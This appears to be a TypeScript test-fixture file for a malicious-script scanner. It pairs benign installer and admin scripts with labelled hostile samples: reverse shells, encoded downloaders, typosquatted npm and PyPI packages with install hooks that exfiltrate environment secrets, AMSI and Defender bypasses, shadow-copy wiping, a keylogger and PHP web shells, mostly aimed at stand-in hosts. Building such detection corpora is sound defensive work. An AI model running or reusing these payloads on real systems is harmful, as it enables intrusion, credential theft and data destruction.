import { deflateSync, gzipSync } from 'node:zlib'
import { makeElf } from '../../../analyzers/src/executable/program-samples.ts'
import { type Entry, files, sampleFiles, word } from '../entry.ts'

const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64')
const wide = (text: string) => Buffer.from(text, 'utf16le').toString('base64')
const ps = word('power', 'shell')
const iex = word('I', 'EX')
const web = word('(New-Object Net.Web', 'Client)')
const load = word('Download', 'String')
const host = 'http://files.example.net'
const ev = word('ev', 'al')
const hexEcho = (bytes: Buffer) =>
  [...bytes.subarray(0, 240)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')

const ordinary: readonly (readonly [string, string])[] = [
  [
    'install.sh',
    '#!/bin/sh\nset -eu\n# Installs the tool into ~/.local/bin\nversion="$\u007bVERSION:-1.4.2}"\ncase "$(uname -m)" in\n  x86_64) arch=amd64 ;;\n  aarch64) arch=arm64 ;;\n  *) echo "unsupported" >&2; exit 1 ;;\nesac\ntmp="$(mktemp -d)"\ntrap \'rm -rf "$tmp"\' EXIT\ncurl -fsSL "https://github.com/acme/tool/releases/download/v$\u007bversion}/tool_$\u007barch}.tar.gz" -o "$tmp/tool.tgz"\necho "0123  $tmp/tool.tgz" | sha256sum -c -\ntar -xzf "$tmp/tool.tgz" -C "$tmp"\ninstall -m 755 "$tmp/tool" "$HOME/.local/bin/tool"\n',
  ],
  [
    'setup-rust.sh',
    '#!/usr/bin/env bash\nset -euo pipefail\ncurl --proto \'=https\' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\nsource "$HOME/.cargo/env"\ncargo --version\n',
  ],
  [
    'setup-node.sh',
    '#!/bin/bash\ncurl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -\nsudo apt-get install -y nodejs\nnode --version\n',
  ],
  [
    'bootstrap.sh',
    '#!/bin/bash\n/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"\nbrew install git jq\n',
  ],
  [
    'docker.sh',
    '#!/bin/sh\ncurl -fsSL https://get.docker.com -o get-docker.sh\nsh get-docker.sh\nusermod -aG docker deploy\nsystemctl enable --now docker\n',
  ],
  [
    'backup.sh',
    '#!/bin/bash\nset -e\nDATE=$(date +%F)\npg_dump shop | gzip > /backup/shop-$DATE.sql.gz\nfind /backup -name "*.gz" -mtime +30 -delete\nrsync -a /backup/ backup@nas.local:/volume1/backup/\n',
  ],
  [
    'entrypoint.sh',
    '#!/bin/sh\nif [ "$1" = "server" ]; then\n  until nc -z "$DB_HOST" 5432; do sleep 1; done\n  exec node server.js\nfi\nexec "$@"\n',
  ],
  [
    'postinst',
    '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n  adduser --system --group --no-create-home acme || true\n  systemctl daemon-reload || true\n  update-rc.d acme defaults >/dev/null\nfi\n#DEBHELPER#\nexit 0\n',
  ],
  [
    'prerm',
    '#!/bin/sh\nset -e\nif [ -x /etc/init.d/acme ]; then invoke-rc.d acme stop || exit $?; fi\n',
  ],
  [
    'cron-job.sh',
    '#!/bin/sh\n(crontab -l 2>/dev/null; echo "0 3 * * * /usr/local/bin/backup.sh") | crontab -\n',
  ],
  [
    'release.sh',
    '#!/bin/bash\ngit fetch --tags\nversion=$(git describe --tags --abbrev=0)\nnpm version patch\nnpm publish --access public\ngit push --follow-tags\n',
  ],
  [
    'certs.sh',
    '#!/bin/sh\nopenssl req -x509 -newkey rsa:4096 -nodes -keyout key.pem -out cert.pem -days 365 -subj "/CN=localhost"\nbase64 -w0 cert.pem > cert.b64\nkubectl create secret tls web --cert=cert.pem --key=key.pem\n',
  ],
  [
    'decode-config.sh',
    '#!/bin/sh\necho "$CONFIG_B64" | base64 -d > /etc/acme/config.yml\nchown acme: /etc/acme/config.yml\nexec /usr/bin/acme --config /etc/acme/config.yml\n',
  ],
  [
    'hardening.sh',
    '#!/bin/bash\nsed -i "s/^#\\?PermitRootLogin.*/PermitRootLogin no/" /etc/ssh/sshd_config\nufw default deny incoming\nufw allow 22/tcp\nufw --force enable\nsystemctl restart ssh\nchmod 600 /etc/shadow\n',
  ],
  [
    'install-choco.ps1',
    `# As https://chocolatey.org/install says\nSet-ExecutionPolicy Bypass -Scope Process -Force\n[System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072\n${word('i', 'ex')} ((New-Object System.Net.WebClient).${load}('https://community.chocolatey.org/install.ps1'))\nchoco install git nodejs 7zip -y\n`,
  ],
  [
    'install-scoop.ps1',
    'Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\nInvoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression\nscoop install git\n',
  ],
  [
    'install-app.ps1',
    'param([string]$Version = "2.1.0")\n$ErrorActionPreference = "Stop"\n$uri = "https://downloads.acme.example.com/acme-$Version.msi"\n$file = Join-Path $env:TEMP "acme.msi"\nInvoke-WebRequest -Uri $uri -OutFile $file -UseBasicParsing\nif ((Get-FileHash $file).Hash -ne $env:EXPECTED) { throw "checksum" }\nStart-Process msiexec.exe -ArgumentList "/i `"$file`" /qn" -Wait\nRemove-Item $file\n',
  ],
  [
    'users.ps1',
    'Import-Module ActiveDirectory\nGet-ADUser -Filter {Enabled -eq $true} -Properties LastLogonDate |\n  Where-Object { $_.LastLogonDate -lt (Get-Date).AddDays(-90) } |\n  Select-Object Name, SamAccountName, LastLogonDate |\n  Export-Csv -Path .\\inactive.csv -NoTypeInformation\n',
  ],
  [
    'cleanup.ps1',
    'Get-ChildItem -Path C:\\Logs -Recurse -File | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item -Force\nClear-RecycleBin -Force -ErrorAction SilentlyContinue\n',
  ],
  [
    'task.ps1',
    '$action = New-ScheduledTaskAction -Execute "PowerShell.exe" -Argument "-NoProfile -File C:\\Scripts\\report.ps1"\n$trigger = New-ScheduledTaskTrigger -Daily -At 6am\nRegister-ScheduledTask -TaskName "Daily report" -Action $action -Trigger $trigger -User "SYSTEM"\n',
  ],
  [
    'profile.ps1',
    'function prompt { "PS $(Get-Location)> " }\nSet-Alias ll Get-ChildItem\nImport-Module posh-git\n',
  ],
  [
    'inventory.ps1',
    'Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version, BuildNumber\nGet-WmiObject Win32_ComputerSystem | Format-List Manufacturer, Model\nGet-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select DisplayName\n',
  ],
  [
    'build.ps1',
    '$msbuild = & "$\u007benv:ProgramFiles(x86)}\\Microsoft Visual Studio\\Installer\\vswhere.exe" -latest -find MSBuild\\**\\Bin\\MSBuild.exe\n& $msbuild .\\App.sln /p:Configuration=Release /m\nif ($LASTEXITCODE) { exit $LASTEXITCODE }\n',
  ],
  [
    'mount.bat',
    '@echo off\r\nnet use S: \\\\fileserver\\share /persistent:yes\r\nnet use P: \\\\fileserver\\projects\r\nstart "" "S:\\menu.exe"\r\n',
  ],
  [
    'gradlew.bat',
    '@rem Gradle startup script for Windows\r\n@if "%DEBUG%"=="" @echo off\r\nsetlocal\r\nset DIRNAME=%~dp0\r\nif "%DIRNAME%"=="" set DIRNAME=.\r\nset APP_HOME=%DIRNAME%\r\nset CLASSPATH=%APP_HOME%\\gradle\\wrapper\\gradle-wrapper.jar\r\n"%JAVA_HOME%/bin/java.exe" %DEFAULT_JVM_OPTS% -classpath "%CLASSPATH%" org.gradle.wrapper.GradleWrapperMain %*\r\n',
  ],
  [
    'install.cmd',
    '@echo off\r\npushd %~dp0\r\nmsiexec /i setup.msi /qn /norestart /l*v %TEMP%\\setup.log\r\nif errorlevel 1 goto failed\r\nreg add "HKLM\\Software\\Acme" /v Server /t REG_SZ /d app.corp.local /f\r\npopd\r\nexit /b 0\r\n:failed\r\necho failed\r\nexit /b 1\r\n',
  ],
  ['run.cmd', '@echo off\r\nset NODE_ENV=production\r\nnode "%~dp0\\server.js" %*\r\n'],
  [
    'logon.vbs',
    'Option Explicit\r\nDim network\r\nSet network = CreateObject("WScript.Network")\r\nnetwork.MapNetworkDrive "S:", "\\\\fileserver\\share"\r\nnetwork.AddWindowsPrinterConnection "\\\\printserver\\floor2"\r\n',
  ],
  [
    'rename.vbs',
    'Dim fso, file\r\nSet fso = CreateObject("Scripting.FileSystemObject")\r\nFor Each file In fso.GetFolder(".").Files\r\n  If LCase(fso.GetExtensionName(file.Name)) = "jpeg" Then file.Name = fso.GetBaseName(file.Name) & ".jpg"\r\nNext\r\n',
  ],
  [
    'server.js',
    "import { createServer } from 'node:http'\nconst port = process.env.PORT ?? 3000\ncreateServer((request, response) => {\n  response.end('hello ' + request.url)\n}).listen(port, () => console.log(`listening on $\u007bport}`))\n",
  ],
  [
    'build.js',
    "const { execSync } = require('child_process');\nconst fs = require('fs');\nfs.rmSync('dist', { recursive: true, force: true });\nexecSync('tsc -p .', { stdio: 'inherit' });\nexecSync('git rev-parse HEAD').toString().trim();\n",
  ],
  [
    'minified.js',
    '!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?module.exports=t():"function"==typeof define&&define.amd?define(t):(e=e||self).acme=t()}(this,function(){"use strict";var e=/^\\s+/,t=String.fromCharCode;function n(r){return r.replace(e,"").split("").map(function(o){return o.charCodeAt(0)}).map(function(o){return t(o)}).join("")}return{trim:n,version:"1.2.3"}});\n',
  ],
  [
    'webpack.js',
    '(()=>{"use strict";var e={42:(e,t,r)=>{r.r(t),r.d(t,{default:()=>n});const n=()=>"hello"}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var i=t[n]={exports:{}};return e[n](i,i.exports,r),i.exports}r.d=(e,t)=>{for(var n in t)Object.defineProperty(e,n,{enumerable:!0,get:t[n]})};console.log(r(42).default())})();\n',
  ],
  [
    'base64.js',
    'const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";\nexport function decode(text) {\n  return Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0));\n}\nexport const encode = (bytes) => btoa(String.fromCharCode(...bytes));\n',
  ],
  [
    'gulpfile.js',
    "const { src, dest, series } = require('gulp');\nconst uglify = require('gulp-uglify');\nfunction scripts() { return src('src/*.js').pipe(uglify()).pipe(dest('dist')); }\nexports.default = series(scripts);\n",
  ],
  [
    'package.json',
    '{\n  "name": "acme-site",\n  "version": "1.0.0",\n  "scripts": {\n    "build": "vite build",\n    "postinstall": "node scripts/postinstall.js",\n    "prepare": "husky install"\n  },\n  "dependencies": { "express": "^4.21.0" }\n}\n',
  ],
  [
    'native-package.json',
    '{\n  "name": "native-addon",\n  "version": "2.3.1",\n  "scripts": { "install": "node-gyp-build", "preinstall": "npx only-allow pnpm", "test": "mocha" },\n  "dependencies": { "node-gyp-build": "^4.8.0" }\n}\n',
  ],
  [
    'postinstall.js',
    "const { existsSync, copyFileSync } = require('fs');\nif (!existsSync('.env')) copyFileSync('.env.example', '.env');\n",
  ],
  [
    'app.py',
    'from flask import Flask, request, jsonify\n\napp = Flask(__name__)\n\n@app.get("/health")\ndef health():\n    return jsonify(ok=True)\n\nif __name__ == "__main__":\n    app.run(port=8000)\n',
  ],
  [
    'setup.py',
    'from setuptools import setup, find_packages\n\nwith open("README.md", encoding="utf-8") as f:\n    long_description = f.read()\n\nsetup(name="acme", version="1.0.0", packages=find_packages(), install_requires=["requests>=2"], long_description=long_description)\n',
  ],
  [
    'fetch.py',
    'import json, zlib, base64, subprocess, sys, urllib.request\n\ndef unpack(text):\n    return zlib.decompress(base64.b64decode(text))\n\ndef main():\n    with urllib.request.urlopen("https://api.example.org/data") as r:\n        print(json.load(r))\n    subprocess.run([sys.executable, "-m", "pytest"], check=True)\n\nif __name__ == "__main__":\n    main()\n',
  ],
  [
    'manage.py',
    '#!/usr/bin/env python\nimport os, sys\n\ndef main():\n    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")\n    from django.core.management import execute_from_command_line\n    execute_from_command_line(sys.argv)\n\nif __name__ == "__main__":\n    main()\n',
  ],
  [
    'socket-server.py',
    'import socket, threading\n\ndef serve(connection):\n    with connection:\n        while data := connection.recv(1024):\n            connection.sendall(data)\n\nwith socket.create_server(("127.0.0.1", 9000)) as server:\n    while True:\n        connection, _ = server.accept()\n        threading.Thread(target=serve, args=(connection,)).start()\n',
  ],
  [
    'plugin.py',
    'import importlib, pkgutil\n\ndef load(name):\n    module = importlib.import_module(name)\n    namespace = {}\n    exec(compile(open(module.__file__).read(), module.__file__, "exec"), namespace)\n    return namespace\n',
  ],
  [
    'report.pl',
    '#!/usr/bin/perl\nuse strict;\nuse warnings;\nmy %count;\nwhile (<>) {\n  my ($host) = split;\n  $count{$host}++;\n}\nprintf "%6d %s\\n", $count{$_}, $_ for sort { $count{$b} <=> $count{$a} } keys %count;\n',
  ],
  [
    'tool.rb',
    '#!/usr/bin/env ruby\nrequire "json"\nrequire "open3"\nout, status = Open3.capture2("git", "log", "--oneline")\nputs JSON.generate(lines: out.lines.size, ok: status.success?)\n',
  ],
  [
    'index.php',
    '<?php\nrequire __DIR__ . "/vendor/autoload.php";\n$app = new \\Slim\\App();\n$app->get("/hello/{name}", function ($request, $response, $args) {\n  $response->getBody()->write("Hello " . htmlspecialchars($args["name"]));\n  return $response;\n});\n$app->run();\n',
  ],
  [
    'upload.php',
    '<?php\nif ($_SERVER["REQUEST_METHOD"] === "POST") {\n  $name = basename($_FILES["file"]["name"]);\n  if (!in_array(pathinfo($name, PATHINFO_EXTENSION), ["jpg", "png"], true)) { http_response_code(400); exit; }\n  move_uploaded_file($_FILES["file"]["tmp_name"], __DIR__ . "/uploads/" . bin2hex(random_bytes(8)));\n}\n?>\n<form method="post" enctype="multipart/form-data"><input type="file" name="file"><button>Upload</button></form>\n',
  ],
  [
    'wp-config.php',
    "<?php\ndefine('DB_NAME', 'blog');\ndefine('DB_USER', 'blog');\ndefine('DB_PASSWORD', 'secret');\n$table_prefix = 'wp_';\nif (!defined('ABSPATH')) define('ABSPATH', __DIR__ . '/');\nrequire_once ABSPATH . 'wp-settings.php';\n",
  ],
  [
    'default.aspx',
    '<%@ Page Language="C#" %>\n<script runat="server">\n  protected void Page_Load(object sender, EventArgs e) { Label1.Text = DateTime.Now.ToString(); }\n</script>\n<html><body><asp:Label ID="Label1" runat="server" /></body></html>\n',
  ],
  [
    'index.jsp',
    '<%@ page contentType="text/html;charset=UTF-8" %>\n<html><body>Hello <%= request.getRemoteUser() %></body></html>\n',
  ],
  [
    'main.go',
    'package main\n\nimport (\n\t"fmt"\n\t"os/exec"\n)\n\nfunc main() {\n\tout, _ := exec.Command("uname", "-a").Output()\n\tfmt.Println(string(out))\n}\n',
  ],
  [
    'Main.java',
    'public class Main {\n  public static void main(String[] args) throws Exception {\n    Process p = Runtime.getRuntime().exec(new String[] {"ls"});\n    p.waitFor();\n  }\n}\n',
  ],
  [
    'Makefile',
    'PREFIX ?= /usr/local\nall:\n\t$(CC) -O2 -o tool main.c\ninstall:\n\tinstall -m 755 tool $(DESTDIR)$(PREFIX)/bin/tool\n',
  ],
  [
    'Dockerfile',
    'FROM debian:12\nRUN apt-get update && apt-get install -y curl && curl -fsSL https://deb.nodesource.com/setup_22.x | bash - && apt-get install -y nodejs\nCOPY . /app\nCMD ["node", "/app/server.js"]\n',
  ],
  [
    '.github-ci.yml',
    'name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -fsSL https://bun.sh/install | bash\n      - run: npm ci && npm test\n',
  ],
  [
    'hotkeys.ahk',
    '#Requires AutoHotkey v2.0\n; Text that I type often\n::mfg::Mit freundlichen Grüßen\n^!n::Run "notepad.exe"\n#HotIf WinActive("ahk_exe code.exe")\nF1::Send "^+p"\n',
  ],
  [
    'setup.au3',
    '#include <GUIConstantsEx.au3>\nLocal $gui = GUICreate("Printer setup", 300, 200)\nGUISetState()\nWhile 1\n  Switch GUIGetMsg()\n    Case $GUI_EVENT_CLOSE\n      Exit\n  EndSwitch\nWEnd\nFunc AddPrinter($name)\n  RunWait(@ComSpec & " /c rundll32 printui.dll,PrintUIEntry /in /n " & $name)\nEndFunc\n',
  ],
  [
    'App.csproj',
    '<Project Sdk="Microsoft.NET.Sdk">\n  <PropertyGroup><OutputType>Exe</OutputType><TargetFramework>net8.0</TargetFramework></PropertyGroup>\n  <ItemGroup><PackageReference Include="Serilog" Version="4.0.0" /></ItemGroup>\n  <Target Name="PostBuild" AfterTargets="PostBuildEvent"><Exec Command="copy $(TargetPath) ..\\bin" /></Target>\n</Project>\n',
  ],
  [
    'queries.sql',
    "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer WHERE o.created > now() - interval '1 day';\nUPDATE stock SET count = count - 1 WHERE id = 7;\n",
  ],
  [
    'macro.applescript',
    'tell application "Finder"\n  set theFiles to selection\n  repeat with f in theFiles\n    set label index of f to 2\n  end repeat\nend tell\n',
  ],
  [
    'module.psm1',
    'function Get-Report {\n  [CmdletBinding()]\n  param([Parameter(Mandatory)][string]$Path)\n  Get-Content $Path | ConvertFrom-Csv\n}\nExport-ModuleMember -Function Get-Report\n',
  ],
  [
    'analysis.R',
    'library(ggplot2)\nd <- read.csv("data.csv")\nggplot(d, aes(x, y)) + geom_point()\n',
  ],
]

const any = /^(?:script|yara|file|shortcut|page|executable|text)\./
const elf = makeElf()
const lambda = (levels: number) => {
  let text = 'print("hello from the inside")'
  for (let level = 0; level < levels; level += 1) {
    const packed = [...base64(deflateSync(text))].reverse().join('')
    text = `exec((_)(b'${packed}'))`
    text = `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));${text}`
  }
  return `${text}\n`
}

export const scriptEntries = (): Entry[] => [
  ...files('script', 'ordinary scripts', ordinary),
  ...sampleFiles('script', 'shell: bots for routers', any, [
    [
      'bins.sh',
      `#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /\nfor a in mips mpsl arm arm5 arm7 x86 ppc; do\n wget http://1.2.3.4/bins/$a -O .x; curl -O http://1.2.3.4/bins/$a; chmod 777 .x; ./.x $a; rm -rf .x\ndone\n`,
    ],
    [
      'wget.sh',
      ['mips', 'arm7', 'x86_64', 'sh4']
        .map(
          (arch) =>
            `cd /tmp; busybox wget http://1.2.3.4/${arch}; chmod +x ${arch}; ./${arch} selfrep; rm -f ${arch}`,
        )
        .join('\n'),
    ],
    [
      'tftp.sh',
      '#!/bin/sh\ncd /tmp; tftp -g -r bot.mpsl 1.2.3.4; cat bot.mpsl > .k; chmod 777 *; ./.k telnet; history -c\n',
    ],
  ]),
  ...sampleFiles('script', 'shell: stays on the machine', any, [
    [
      'preload.sh',
      '#!/bin/bash\ngcc -shared -fPIC -o /usr/local/lib/libprocesshider.so hide.c\necho /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload\n',
    ],
    [
      'preload2.sh',
      '#!/bin/sh\ncp .lib.so /lib/libsys.so && printf "/lib/libsys.so\\n" | tee -a /etc/ld.so.preload > /dev/null\nchattr +i /etc/ld.so.preload\n',
    ],
    [
      'key.sh',
      `#!/bin/sh\nmkdir -p /root/.ssh\necho "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 x" >> /root/.ssh/authorized_keys\n(crontab -l; echo "* * * * * curl -s ${host}/x | sh") | crontab -\n`,
    ],
    [
      'miner.sh',
      `#!/bin/bash\npkill -f xmrig; pkill -f kinsing\ncurl -s ${host}/xmrig.tar.gz | tar xz -C /var/tmp\nchmod +x /var/tmp/xmrig; nohup /var/tmp/xmrig -o stratum+tcp://pool.example.net:3333 -u 4abc -p x >/dev/null 2>&1 &\necho "*/5 * * * * /var/tmp/xmrig" | crontab -\n`,
    ],
  ]),
  ...sampleFiles('script', 'shell: echoed program', any, [
    ['echo.sh', `#!/bin/sh\necho -ne "${hexEcho(elf)}" > /tmp/.a; chmod +x /tmp/.a; /tmp/.a\n`],
    ['printf.sh', `printf '${hexEcho(elf)}' >> /dev/shm/k\nchmod 755 /dev/shm/k && /dev/shm/k &\n`],
    [
      'b64.sh',
      `#!/bin/bash\nbase64 -d <<< "${base64(elf)}" > /tmp/u && chmod +x /tmp/u && /tmp/u\n`,
    ],
  ]),
  ...sampleFiles('script', 'shell: reverse and decoded', any, [
    ['rev.sh', '#!/bin/bash\nbash -i >& /dev/tcp/1.2.3.4/4444 0>&1\n'],
    ['mkfifo.sh', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 9001 >/tmp/f\n'],
    ['decoded.sh', `#!/bin/sh\necho ${base64(`curl -s ${host}/a.sh | sh`)} | base64 -d | bash\n`],
    [
      'hexdec.sh',
      `echo ${Buffer.from(`wget -qO- ${host}/x|sh`).toString('hex')} | xxd -r -p | sh\n`,
    ],
    [
      'openssl.sh',
      'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 1.2.3.4:443 > /tmp/s; rm /tmp/s\n',
    ],
  ]),
  ...sampleFiles('script', 'Python: packed in itself', any, [
    ['lambda.py', lambda(3)],
    [
      'one.py',
      `exec(__import__('zlib').decompress(__import__('base64').b64decode("${base64(deflateSync('import os\nos.system("id")\n'))}")))\n`,
    ],
    [
      'marshal.py',
      `import marshal,base64\nexec(marshal.loads(base64.b64decode("${base64(Buffer.alloc(300, 7))}")))\n`,
    ],
    [
      'getattr.py',
      `import base64 as b\n(lambda c: getattr(__builtins__, 'ex'+'ec')(c))(b.b64decode('${base64("import urllib.request as u;exec(u.urlopen('http://files.example.net/p').read())")}'))\n`,
    ],
    [
      'rev.py',
      'import socket,subprocess,os\ns=socket.socket();s.connect(("1.2.3.4",4444))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)\nsubprocess.call(["/bin/sh","-i"])\n',
    ],
    [
      'setup.py',
      `from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass X(install):\n    def run(self):\n        os.system("curl -s ${host}/p | python3")\n        install.run(self)\nsetup(name="reqeusts", version="1.0", cmdclass={"install": X})\n`,
    ],
  ]),
  ...sampleFiles('script', 'npm: runs at the installation', any, [
    [
      'package.json',
      `{"name":"loadsh","version":"1.0.1","scripts":{"preinstall":"curl -s ${host}/i.sh | bash"}}`,
    ],
    [
      'second/package.json',
      `{"name":"coulour","version":"9.9.9","scripts":{"preinstall":"node -e \\"require('child_process').exec(Buffer.from('${base64(`curl ${host}/a|sh`)}','base64').toString())\\""}}`,
    ],
    [
      'third/package.json',
      `{"name":"internal-tool","version":"99.0.0","description":"x","scripts":{"postinstall":"wget -q --post-data=\\"$(env | base64)\\" https://collect.example.net/"}}`,
    ],
  ]),
  ...sampleFiles('script', 'Node: runs hidden text', any, [
    [
      'index.js',
      `const { exec } = require('child_process');\nexec(Buffer.from('${base64(`curl -s ${host}/a | sh`)}', 'base64').toString());\n`,
    ],
    [
      'lib.js',
      `require("child_process")["ex"+"ec"](Buffer.from("${Buffer.from(`${ps} -enc ${wide(`${iex} 1`)}`).toString('hex')}","hex").toString("utf8"))\n`,
    ],
    [
      'func.js',
      `new Function(Buffer.from("${base64(`require('https').get('${host}/c',r=>r.on('data',d=>eval(d+'')))`)}", "base64").toString())();\n`,
    ],
    [
      'steal.js',
      `const os=require('os'),https=require('https');const d=JSON.stringify({h:os.hostname(),e:process.env,n:require('fs').readFileSync(os.homedir()+'/.npmrc','utf8')});https.request({hostname:'collect.example.net',method:'POST'}).end(Buffer.from(d).toString('base64'));\n`,
    ],
  ]),
  ...sampleFiles('script', 'AutoIt', any, [
    [
      'update.au3',
      `#NoTrayIcon\nLocal $f = @TempDir & "\\u.exe"\nInetGet("${host}/u.exe", $f, 1)\nRun($f, "", @SW_HIDE)\nRegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "u", "REG_SZ", $f)\n`,
    ],
    [
      'inject.au3',
      `#NoTrayIcon\nLocal $s = BinaryToString("0x${Buffer.alloc(200, 0x90).toString('hex')}")\nLocal $p = DllStructCreate("byte[" & BinaryLen($s) & "]", DllCall("kernel32.dll", "ptr", "VirtualAlloc", "ptr", 0, "ulong_ptr", 4096, "dword", 0x3000, "dword", 0x40)[0])\nDllStructSetData($p, 1, $s)\nDllCallAddress("none", DllStructGetPtr($p))\n`,
    ],
    [
      'exec.au3',
      'Execute(BinaryToString("0x4d7367426f7828302c2022222c202268692229"))\nShellExecute("cmd.exe", "/c ' +
        ps +
        ' -w hidden -nop iwr ' +
        host +
        '/a | iex", "", "", @SW_HIDE)\n',
    ],
  ]),
  ...sampleFiles('script', 'AutoHotkey', any, [
    [
      'load.ahk',
      `#NoTrayIcon\nUrlDownloadToFile, ${host}/a.exe, %A_Temp%\\a.exe\nRun, %A_Temp%\\a.exe,, Hide\n`,
    ],
    [
      'keys.ahk',
      `#NoTrayIcon\n#Persistent\nLoop {\n Input, key, V L1\n FileAppend, %key%, %A_AppData%\\k.txt\n}\nSend:\nwhr := ComObjCreate("WinHttp.WinHttpRequest.5.1")\nwhr.Open("POST", "https://collect.example.net/k")\n`,
    ],
    [
      'v2.ahk',
      `#Requires AutoHotkey v2.0\n#NoTrayIcon\nDownload "${host}/p.exe", A_Temp "\\p.exe"\nRun A_Temp "\\p.exe",, "Hide"\nFileCopy A_ScriptFullPath, A_Startup "\\u.ahk", 1\n`,
    ],
  ]),
  ...sampleFiles('script', 'PowerShell', any, [
    ['cradle.ps1', `${iex} ${web}.${load}('${host}/a.ps1')\n`],
    ['irm.ps1', '$u = "1.2.3.4"; i`r`m "http://$u/x" | i`e`x\n'],
    [
      'packed.ps1',
      `$d=[Convert]::FromBase64String('${base64(gzipSync('Write-Host hello; Start-Process calc'))}');$s=New-Object IO.StreamReader((New-Object IO.Compression.GZipStream([IO.MemoryStream]$d,[IO.Compression.CompressionMode]::Decompress)));&([scriptblock]::Create($s.ReadToEnd()))\n`,
    ],
    [
      'format.ps1',
      `$x = "{2}{0}{1}" -f 'voke-Ex','pression','In'; & $x ("{1}{0}" -f "'http://files.example.net/a')", "(New-Object Net.WebClient).${load}(")\n`,
    ],
    [
      'amsi.ps1',
      `[Ref].Assembly.GetType('System.Management.Automation.${word('Am', 'siUtils')}').GetField('${word('amsi', 'InitFailed')}','NonPublic,Static').SetValue($null,$true)\n`,
    ],
    [
      'defender.ps1',
      `Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\; iwr ${host}/a.exe -OutFile $env:TEMP\\a.exe; start $env:TEMP\\a.exe\n`,
    ],
    [
      'xor.ps1',
      `$k=55;$b=@(${[...Buffer.from(`${iex} ${web}.${load}('${host}/b')`)].map((byte) => byte ^ 55)});$s=-join($b|%{[char]($_ -bxor $k)});Invoke-Expression $s\n`,
    ],
  ]),
  ...sampleFiles('script', 'batch', any, [
    ['enc.bat', `@echo off\r\nstart /min ${ps} -nop -w 1 -e ${wide(`${iex}(iwr ${host}/a)`)}\r\n`],
    [
      'certutil.cmd',
      `@${word('cert', 'util')} -urlcache -f ${host}/p.txt %tmp%\\p.txt & ${word('cert', 'util')} -decode %tmp%\\p.txt %tmp%\\p.exe & %tmp%\\p.exe\r\n`,
    ],
    [
      'bits.bat',
      `bitsadmin /transfer j /download /priority high ${host}/a.exe %APPDATA%\\a.exe\r\nstart %APPDATA%\\a.exe\r\n`,
    ],
    [
      'wipe.bat',
      `${word('vss', 'admin')} delete shadows /all /quiet\r\nwbadmin delete catalog -quiet\r\nbcdedit /set {default} recoveryenabled no\r\nwevtutil cl Security\r\n`,
    ],
    [
      'split.bat',
      `@set x=wer&set y=sh&set z=ell\r\n@po%x%%y%%z% -c "${iex} ${web}.${load}('${host}/c')"\r\n`,
    ],
  ]),
  ...sampleFiles('script', 'Windows Script Host', any, [
    [
      'invoice.js',
      `var s=new ActiveXObject("WScript.Shell");var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","${host}/a.exe",false);x.send();var a=new ActiveXObject("ADODB.Stream");a.Type=1;a.Open();a.Write(x.responseBody);a.SaveToFile(s.ExpandEnvironmentStrings("%TEMP%")+"\\\\a.exe",2);s.Run("%TEMP%\\\\a.exe",0);\n`,
    ],
    [
      'order.vbs',
      `Set w = CreateObject("WScript.Shell")\r\nw.Run "${ps} -w hidden -c ""iwr ${host}/a -o $env:tmp\\a.exe; saps $env:tmp\\a.exe""", 0\r\n`,
    ],
    [
      'chr.vbs',
      `Execute(${[...'CreateObject("WScript.Shell").Run "calc.exe",0'].map((letter) => `Chr(${letter.charCodeAt(0)})`).join('&')})\r\n`,
    ],
    [
      'codes.js',
      `${ev}(String.fromCharCode(${[...'new ActiveXObject("WScript.Shell").Run("cmd /c calc",0)'].map((letter) => letter.charCodeAt(0))}));\n`,
    ],
    [
      'job.wsf',
      `<job><script language="JScript">new ActiveXObject("WScript.Shell").Run("mshta ${host}/a.hta",0)</script></job>\n`,
    ],
    [
      'form.hta',
      `<html><head><HTA:APPLICATION WINDOWSTATE="minimize" SHOWINTASKBAR="no"></head><script language="VBScript">CreateObject("WScript.Shell").Run "${ps} -c iwr ${host}/a",0:self.close</script></html>\n`,
    ],
  ]),
  ...sampleFiles('script', 'web shells', any, [
    ['x.php', word('<?p', 'hp @ev', 'al($_POST["p"]); ?>\n')],
    [
      'cmd.php',
      word(
        '<?p',
        'hp if(isset($_REQUEST["c"])){echo "<pre>".she',
        'll_exec($_REQUEST["c"])."</pre>";} ?>\n',
      ),
    ],
    ['wso.php', `<?php $a=base64_decode("${base64(`sys${''}tem($_GET["x"]);`)}"); ${ev}($a); ?>\n`],
    ['var.php', word('<?p', 'hp $f="as"."sert"; $f($_COOKIE["k"]); ?>\n')],
    [
